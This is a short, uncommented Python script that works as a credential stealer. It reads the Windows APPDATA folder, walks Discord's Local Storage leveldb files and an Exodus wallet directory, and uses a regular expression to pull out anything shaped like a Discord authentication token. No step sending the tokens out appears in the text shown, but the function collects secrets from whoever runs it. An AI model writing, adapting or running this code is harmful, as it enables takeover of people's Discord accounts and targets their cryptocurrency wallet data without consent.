import os
import re

ROAMING = os.getenv("APPDATA", "")
PATHS = {
    "Discord": ROAMING + "\\discord\\Local Storage\\leveldb",
    "Exodus": ROAMING + "\\Exodus\\exodus.wallet",
}

def tokens():
    out = []
    for name, p in PATHS.items():
        if not os.path.exists(p):
            continue
        for f in os.listdir(p):
            if f.endswith(".ldb") or f.endswith(".log"):
                with open(os.path.join(p, f), errors="ignore") as fh:
                    out += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", fh.read())
    return out
